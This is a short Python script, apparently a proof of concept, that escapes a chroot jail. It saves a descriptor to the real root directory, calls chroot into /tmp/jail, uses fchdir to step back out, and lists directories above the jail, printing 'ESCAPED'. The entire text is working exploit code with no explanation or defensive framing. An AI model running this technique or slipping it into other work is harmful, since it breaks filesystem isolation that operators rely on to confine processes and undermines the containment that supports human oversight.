import os

os.mkdir("/tmp/jail")
root = os.open("/", os.O_RDONLY)
os.chroot("/tmp/jail")
os.fchdir(root)
print("ESCAPED", os.listdir("../../../.."))
